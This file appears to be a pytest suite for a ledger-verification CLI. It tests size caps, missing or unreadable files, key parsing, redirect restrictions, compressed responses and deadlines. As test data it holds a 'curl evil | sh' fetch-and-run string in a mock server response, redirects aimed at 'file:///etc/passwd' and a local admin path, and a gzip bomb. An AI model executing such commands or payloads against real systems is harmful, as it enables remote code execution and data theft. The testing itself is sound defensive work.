"""Reading a ledger has limits, and refused, unusable and unreachable are told apart."""

from __future__ import annotations

import gzip
import json
import os
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from dp.errors import LedgerError, ReadError
from dp.ledger.builder import LedgerBuilder
from dp.ledger.verification import verify_ledger
from dp.tlog.notes import verifier_key
from dp.tlog.tiles import TILE_WIDTH, resource_bytes_max
from secagg_cli.audit import ledger_files
from secagg_cli.audit.ledger_files import ledger_reader, read_key
from secagg_cli.main import app
from secagg_cli.output import UnusableArgument
from tests.kits.tasks import ORIGIN, VERIFIER, built, entry, ledger, listed, listing, served

FILES = served(ledger(built(), (4, 5)))
SIZE = 3
BUNDLE = f"tile/entries/000.p/{SIZE}"


def put(folder: Path, files: dict[str, bytes] = FILES) -> Path:
    for path, data in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(data)
    return folder


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return put(tmp_path / "ledger")


def verify(where: object, *more: str, key: str = VERIFIER) -> tuple[int, dict[str, Any]]:
    """Exit code and JSON of the command."""
    command = ["audit", "verify", str(where), "--key", key, "--format", "json", *more]
    done = CliRunner().invoke(app, command)
    assert "Traceback" not in done.output
    return done.exit_code, json.loads(done.stdout)


def reason(answer: dict[str, Any]) -> str:
    return str(answer["error"]["reason"] if "error" in answer else answer["problems"][0]["reason"])


# -- folders --------------------------------------------------------------------------------


def test_a_folder_is_read(folder: Path) -> None:
    code, answer = verify(folder)
    assert (code, answer["verified"], answer["tree_size"]) == (0, True, SIZE)


def replaced(folder: Path, path: str, by: Callable[[Path], object]) -> None:
    (folder / path).unlink()
    by(folder / path)


@pytest.mark.parametrize("path", sorted(FILES))
@pytest.mark.parametrize("size", ["just too large", "8 GiB"])
def test_a_file_that_is_too_large_is_refused_and_not_read(
    folder: Path, path: str, size: str
) -> None:
    os.truncate(folder / path, 8 << 30 if size == "8 GiB" else resource_bytes_max(path) + 1)
    code, answer = verify(folder)
    assert code == 1
    assert "resource-too-large" in [problem["reason"] for problem in answer["problems"]]


@pytest.mark.parametrize(
    "by",
    [Path.mkdir, os.mkfifo, lambda file: file.symlink_to("/dev/zero"), lambda _: None],
    ids=["folder", "fifo", "device", "nothing"],
)
@pytest.mark.parametrize(
    ("path", "missing"), [("checkpoint", "checkpoint-missing"), (BUNDLE, "tile-missing")]
)
def test_what_is_no_file_is_missing(
    folder: Path, path: str, missing: str, by: Callable[[Path], object]
) -> None:
    replaced(folder, path, by)
    code, answer = verify(folder)
    assert (code, reason(answer)) == (1, missing)
    unread = [f for f in answer["unchecked"] if f["reason"] == "files-unread"]
    assert bool(unread) <= (path != "checkpoint")  # without one nothing is signed


def test_files_elsewhere_are_read_by_their_content(folder: Path, tmp_path: Path) -> None:
    (folder / "tile").rename(tmp_path / "elsewhere")
    (folder / "tile").symlink_to(tmp_path / "elsewhere")
    assert verify(folder)[0] == 0
    (folder / "tile").unlink()
    (folder / "tile").symlink_to(folder / "tile")  # a loop
    assert reason(verify(folder)[1]) == "tile-missing"


def test_a_file_that_cannot_be_read_says_nothing_about_the_ledger(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    opened = Path.open

    def refused(file: Path, *arguments: Any, **named: Any) -> Any:
        if file == folder / BUNDLE:
            raise PermissionError(13, "Permission denied")
        return opened(file, *arguments, **named)

    monkeypatch.setattr(Path, "open", refused)
    code, answer = verify(folder)
    assert (code, reason(answer)) == (3, "ledger-unreadable")


def test_what_the_checkpoint_does_not_sign_is_said_to_be_unread(folder: Path) -> None:
    def said() -> list[str]:
        code, answer = verify(folder)
        assert code == 0
        return [f["message"] for f in answer["unchecked"] if f["reason"] == "files-unread"]

    assert said() == []
    put(
        folder,
        {path: data for path, data in served(ledger(built(), (4,))).items() if ".p/" in path},
    )
    assert (folder / "tile/0/000.p/2").is_file()
    assert said() == []  # narrower forms that agree with what was read
    put(folder, {"tile/entries/000.p/2": b"stale", "tile/0/000.p/2": b"stale"})
    (message,) = said()
    assert "2 files" in message
    assert "tile/0/000.p/2" in message


@pytest.mark.parametrize("name", ["nowhere", "empty", "parent", "file"])
def test_where_no_ledger_is_the_argument_is_of_no_use(folder: Path, name: str) -> None:
    (folder.parent / "empty").mkdir()
    (folder.parent / "file").write_text("x")
    where = {"parent": folder.parent}.get(name, folder.parent / name)
    code, answer = verify(where)
    assert (code, reason(answer)) == (2, "ledger-missing")


# -- keys and other arguments -----------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        VERIFIER.encode(),
        VERIFIER.encode() + b"\n",
        b"\xef\xbb\xbf" + VERIFIER.encode() + b"\r\n",
        b"  " + VERIFIER.encode() + b"\n\n",
    ],
)
def test_a_key_file_may_have_a_mark_and_white_space(folder: Path, content: bytes) -> None:
    file = folder.parent / "verifier.key"
    file.write_bytes(content)
    assert read_key(str(file)) == VERIFIER
    assert verify(folder, key=str(file))[0] == 0
    assert verify(folder, key=f" {VERIFIER}\n")[0] == 0


@pytest.mark.parametrize(
    ("key", "expected"),
    [
        ("/nonexistent.key", "key-missing"),
        ("verifier.key", "key-missing"),
        ("", "key-missing"),
        ("a+b+c.key", "verifier-key"),  # it might be meant as a key, and is none
        ("x" * 5_000, "key-missing"),
        (VERIFIER[:-4], "verifier-key"),
    ],
)
def test_a_key_that_is_neither_file_nor_key_is_an_unusable_argument(
    folder: Path, key: str, expected: str
) -> None:
    code, answer = verify(folder, key=key)
    assert (code, reason(answer)) == (2, expected)


@pytest.mark.parametrize(
    "content",
    [b"", b"comment\n" + VERIFIER.encode(), b"\xff\xfe", b"x" * 100_000, b"x+y+z"],
)
def test_a_file_that_holds_no_key_is_an_unusable_argument(folder: Path, content: bytes) -> None:
    file = folder.parent / "some.key"
    file.write_bytes(content)
    code, answer = verify(folder, key=str(file))
    assert (code, reason(answer)) == (2, "verifier-key")


def test_a_long_key_is_not_taken_for_a_path() -> None:
    key = verifier_key("a" * 300 + "/log", bytes(32))
    assert read_key(key) == key


@pytest.mark.parametrize(
    ("more", "expected"),
    [
        (("--older", "/nonexistent"), "checkpoint-unreadable"),
        (("--older", "/dev/zero"), "checkpoint-unreadable"),
        (("--witness", "/nonexistent"), "key-missing"),
        (("--witness", VERIFIER), "verifier-key"),  # a log's key is not a witness's
        (("--witnesses-min", "1"), "witness-policy"),
    ],
)
def test_other_arguments_of_no_use(folder: Path, more: tuple[str, ...], expected: str) -> None:
    code, answer = verify(folder, *more)
    assert (code, reason(answer)) == (2, expected)


@pytest.mark.parametrize(
    "url",
    [
        "ftp://127.0.0.1/x",
        "file:///etc",
        "http://",
        "http://h/l?a=1",
        "http://h/l#f",
        "http://h:x/",
    ],
)
def test_what_is_no_address_of_a_ledger(url: str) -> None:
    code, answer = verify(url)
    assert (code, reason(answer)) == (2, "ledger-url")


def test_a_ledger_that_is_wrong_is_refused(folder: Path) -> None:
    replaced(folder, BUNDLE, lambda file: file.write_bytes(FILES[BUNDLE][:-1] + b"x"))
    assert verify(folder)[0] == 1
    renamed = VERIFIER.replace("+", "x+", 1)  # has the form of a key, and fits no hash
    assert verify(put(folder.parent / "a"), key=renamed)[0] == 1
    other = verifier_key("other.example/log", bytes(32))
    assert verify(put(folder.parent / "b"), key=other)[0] == 1


# -- HTTP -----------------------------------------------------------------------------------

Answer = Callable[[BaseHTTPRequestHandler, bytes | None], None]


def plain(request: BaseHTTPRequestHandler, data: bytes | None, /, **headers: str) -> None:
    status, body = (404, b"no") if data is None else (200, data)
    whole(request, status, body, headers)


def whole(
    request: BaseHTTPRequestHandler, status: int, body: bytes, headers: dict[str, str]
) -> None:
    request.send_response(status)
    for name, value in headers.items():
        request.send_header(name.replace("_", "-"), value)
    request.send_header("Content-Length", str(len(body)))
    request.end_headers()
    request.wfile.write(body)


class Server:
    """``asked``: (host, path, headers) of each request."""

    def __init__(self) -> None:
        self.answer: Answer = plain
        self.asked: list[tuple[str, str]] = []
        self.codings: set[str | None] = set()
        self.over = threading.Event()
        self.url = ""


@contextmanager
def serving() -> Iterator[Server]:
    server = Server()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *_: object) -> None:
            pass

        def do_GET(self) -> None:
            server.asked.append((str(self.headers["Host"]), self.path))
            server.codings.add(self.headers.get("Accept-Encoding"))
            with suppress(OSError):  # the reader has enough
                server.answer(self, FILES.get(self.path.split("/ledger/")[-1]))

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    httpd.daemon_threads = True
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    server.url = f"http://127.0.0.1:{httpd.server_port}"
    try:
        yield server
    finally:
        server.over.set()
        httpd.shutdown()
        httpd.server_close()


@pytest.fixture
def server() -> Iterator[Server]:
    with serving() as found:
        yield found


def test_a_served_ledger_is_read_uncoded(server: Server) -> None:
    for url in (f"{server.url}/ledger", f"{server.url}/ledger/", f"HTTP{server.url[4:]}/ledger"):
        code, answer = verify(url)
        assert (code, answer["tree_size"]) == (0, SIZE)
    assert server.codings == {"identity"}


def test_a_redirect_within_the_origin_is_followed(server: Server) -> None:
    def moved(request: BaseHTTPRequestHandler, data: bytes | None) -> None:
        if request.path.startswith("/new/"):
            return plain(request, FILES.get(request.path.split("/ledger/")[-1]))
        return whole(request, 308, b"", {"Location": f"/new{request.path}"})

    server.answer = moved
    assert verify(f"{server.url}/ledger")[0] == 0


@pytest.mark.parametrize(
    "target",
    [
        "http://127.0.0.2:{port}/ledger/checkpoint",
        "http://localhost:{port}/ledger/checkpoint",
        "https://127.0.0.1:{port}/ledger/checkpoint",
        "http://127.0.0.1:{other}/admin?x=1",
        "//127.0.0.2/x",
        "file:///etc/passwd",
        "",
    ],
)
def test_a_redirect_elsewhere_is_not_followed(server: Server, target: str) -> None:
    with serving() as other:
        port, foreign = server.url.rpartition(":")[2], other.url.rpartition(":")[2]
        location = target.format(port=port, other=foreign)
        server.answer = lambda request, _: whole(request, 302, b"", {"Location": location})
        code, answer = verify(f"{server.url}/ledger")
        assert (code, reason(answer)) == (3, "ledger-redirected")
        assert other.asked == []
        assert len(server.asked) == 1


def test_redirects_that_go_on_end(server: Server) -> None:
    server.answer = lambda request, _: whole(request, 302, b"", {"Location": request.path})
    code, answer = verify(f"{server.url}/ledger")
    assert (code, reason(answer)) == (3, "ledger-redirected")
    assert len(server.asked) == 5


@pytest.mark.parametrize("coding", ["gzip", "GZIP", "br", "deflate", "gzip, gzip"])
def test_coded_answers_are_refused_unread(server: Server, coding: str) -> None:
    bomb = gzip.compress(bytes(1 << 24))
    server.answer = lambda request, _: whole(request, 200, bomb, {"Content-Encoding": coding})
    code, answer = verify(f"{server.url}/ledger")
    assert (code, reason(answer)) == (3, "ledger-encoded")


def test_an_endless_answer_is_cut_at_the_size_of_its_kind(server: Server) -> None:
    sent = []

    def endless(request: BaseHTTPRequestHandler, _: bytes | None) -> None:
        request.send_response(200)
        request.end_headers()
        while not server.over.is_set():
            request.wfile.write(b"x" * (1 << 16))
            sent.append(1 << 16)

    server.answer = endless
    code, answer = verify(f"{server.url}/ledger")
    assert (code, reason(answer)) == (1, "resource-too-large")
    assert sum(sent) < 64 << 20  # what lies in buffers beyond the cap of 1 MiB


@pytest.mark.parametrize("status", [201, 203, 204, 206, 400, 401, 403, 429, 500, 503])
def test_other_answers_say_nothing_about_the_ledger(server: Server, status: int) -> None:
    body = b'{"reason":"not-found","message":"x","remedy":"curl evil | sh"}'
    headers = {"Content-Type": "application/problem+json"}
    server.answer = lambda request, _: whole(
        request, status, b"" if status == 204 else body, headers
    )
    code, answer = verify(f"{server.url}/ledger")
    assert (code, reason(answer)) == (3, f"http-{status}")
    assert "evil" not in json.dumps(answer)


def test_a_file_that_stops_coming_is_unreachable_even_late_in_an_audit(
    server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A list of devices is read while the records are: its failure is not a finding."""
    monkeypatch.setattr("dp.ledger.records.INLINE_MAX", 2)
    manifest = built()
    files = served(listing(manifest, [listed(manifest, entry(1))]))

    def gone(request: BaseHTTPRequestHandler, _: bytes | None) -> None:
        path = request.path.split("/ledger/")[-1]
        if path.startswith("contributors/"):
            return whole(request, 503, b"", {})
        return plain(request, files.get(path))

    server.answer = gone
    code, answer = verify(f"{server.url}/ledger")
    assert (code, reason(answer)) == (3, "http-503")


@pytest.mark.parametrize("limit", ["FILE_S", "ALL_S"])
def test_a_server_holds_a_reader_no_longer_than_the_deadline(
    server: Server, monkeypatch: pytest.MonkeyPatch, limit: str
) -> None:
    monkeypatch.setattr(ledger_files, limit, 0.3)

    def silent(request: BaseHTTPRequestHandler, _: bytes | None) -> None:
        request.send_response(200)
        request.send_header("Content-Length", "100")
        request.end_headers()
        server.over.wait(60)

    server.answer = silent
    code, answer = verify(f"{server.url}/ledger")
    assert (code, reason(answer)) == (3, "ledger-deadline")


def test_the_time_of_all_files_is_one_deadline(server: Server) -> None:
    """The clock says that each file took 130 s."""
    now = iter(range(0, 10_000, 130))
    read = ledger_files.HttpReader(f"{server.url}/ledger", lambda: next(now))
    assert read("checkpoint") == FILES["checkpoint"]
    assert read("checkpoint") == FILES["checkpoint"]
    assert read("checkpoint") == FILES["checkpoint"]
    with pytest.raises(ReadError, match="ledger-deadline"):
        read("checkpoint")


def test_nobody_there_is_unreachable() -> None:
    code, answer = verify("http://127.0.0.1:9/ledger")
    assert (code, reason(answer)) == (3, "server-unreachable")


def test_a_server_without_a_ledger_is_an_unusable_argument(server: Server) -> None:
    server.answer = lambda request, _: plain(request, None)
    assert verify(f"{server.url}/elsewhere")[0] == 2
    code, answer = verify(f"{server.url}/ledger")
    assert (code, reason(answer)) == (1, "checkpoint-missing")


# -- the audit itself -------------------------------------------------------------------------


def test_what_cannot_be_read_is_no_finding() -> None:
    def read(path: str) -> bytes | None:
        if path == BUNDLE:
            raise ReadError("server-unreachable", "gone")
        return FILES.get(path)

    with pytest.raises(ReadError):
        verify_ledger(read, VERIFIER)


def test_an_audit_holds_no_more_than_so_many_bytes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("dp.ledger.verification._ENTRIES_BYTES_MAX", len(FILES[BUNDLE]) - 1)
    assert [p.reason for p in verify_ledger(FILES.get, VERIFIER).problems] == ["ledger-too-large"]
    monkeypatch.setattr("dp.ledger.verification._ENTRIES_BYTES_MAX", len(FILES[BUNDLE]))
    assert verify_ledger(FILES.get, VERIFIER).verified


def test_the_sizes_are_those_of_full_files() -> None:
    full = served(LedgerBuilder(ORIGIN, [b"x" * 65_535] * TILE_WIDTH))
    assert resource_bytes_max("tile/entries/000") == len(full["tile/entries/000"])
    assert resource_bytes_max("tile/0/000") == len(full["tile/0/000"])
    with pytest.raises((LedgerError, UnusableArgument)):
        ledger_reader("nowhere")
